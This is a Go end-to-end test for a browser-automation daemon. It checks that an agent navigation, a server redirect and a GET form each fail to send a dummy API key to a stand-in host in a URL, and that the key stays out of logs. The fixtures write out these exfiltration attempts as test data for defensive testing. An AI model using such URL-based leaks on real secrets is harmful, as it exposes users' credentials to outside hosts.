package e2e_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/buddi-dev/buddi/daemon/daemontest"
)

// A key an agent must not send anywhere, as a page or the agent could put
// it into a URL.
const leakedKey = "sk-proj-Q7zT2lM9xV4rB8nK3wP6yC1hD5gS0jA2"

// TestE2EASecretCannotLeaveInAURL drives the real browser to send a
// secret-looking value in a URL three ways: a navigate the agent asks for,
// a redirect the page's server sends, and a form the page submits with
// GET. Each is refused with secret_in_url and recorded, with the site only;
// nothing reaches the destination, and neither the record nor the log
// holds the key.
func TestE2EASecretCannotLeaveInAURL(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Leaky</title><a href="/away">Away</a>
<form method="get" action="https://example.net/collect"><input type="hidden" name="k" value="%s">
<label>Note <input name="note"></label><button type="submit">Send</button></form>`, leakedKey)
	})
	mux.HandleFunc("/away", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://example.org/landed?token="+leakedKey, http.StatusFound)
	})
	s, b, dir, tok := previewTask(t, mux)

	code(t, b.Act(t, tok, "c1", in{"action": "navigate", "url": "https://example.com/?key=" + leakedKey}), "secret_in_url")
	ok(t, b.Act(t, tok, "c1", in{"action": "navigate", "url": s.URL + "/"}))
	obs := b.Observe(t, tok, "c1")
	code(t, b.Act(t, tok, "c1", in{"action": "click", "observation": daemontest.ID(obs), "target": target1(daemontest.Ref(t, obs, "link", "Away"))}), "secret_in_url")
	obs = b.Observe(t, tok, "c1")
	code(t, b.Act(t, tok, "c1", in{"action": "click", "observation": daemontest.ID(obs), "target": target1(daemontest.Ref(t, obs, "button", "Send"))}), "secret_in_url")
	b.stop()

	var urls []string
	for _, r := range daemontest.Refusals(t, dir) {
		if r.Code != "secret_in_url" || r.Conversation != "c1" || r.Agent != "ada" {
			t.Errorf("refusal %+v", r)
		}
		urls = append(urls, r.URL)
	}
	slices.Sort(urls)
	if want := []string{"https://example.com/…", "https://example.net/…", "https://example.org/…"}; !slices.Equal(urls, want) {
		t.Errorf("the refusal record holds %q, want each refusal once, by its site: %q", urls, want)
	}
	if strings.Contains(b.logs.String(), leakedKey) {
		t.Error("buddi's log holds the key")
	}
	if found := grepDir(t, dir, leakedKey); found != "" {
		t.Errorf("the data directory holds the key in %s", found)
	}
}

// grepDir returns the first file under dir (the browser's profile aside)
// that holds s, or "".
func grepDir(t *testing.T, dir, s string) string {
	t.Helper()
	var found string
	_ = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || found != "" {
			return nil //nolint:nilerr // an unreadable file cannot hold it for us
		}
		if d.IsDir() && d.Name() == "browser" {
			return filepath.SkipDir // the page itself showed the key: the profile's cache may keep it
		}
		if b, err := os.ReadFile(path); err == nil && !d.IsDir() && strings.Contains(string(b), s) {
			found = path
		}
		return nil
	})
	return found
}

// previewTask serves h as a preview origin to a buddi of its own, in dir,
// where agent ada (token tok) has a task for conversation c1.
func previewTask(t *testing.T, h http.Handler, env ...string) (s *httptest.Server, b *buddi, dir, tok string) {
	t.Helper()
	s = httptest.NewServer(h)
	t.Cleanup(s.Close)
	dir = t.TempDir()
	b = serve(t, dir, append([]string{"BUDDI_PREVIEW_ORIGINS=" + s.URL}, env...)...)
	tok = b.AddAgent(t, "ada", false)
	b.Task(t, "ada", "c1", 80)
	return s, b, dir, tok
}
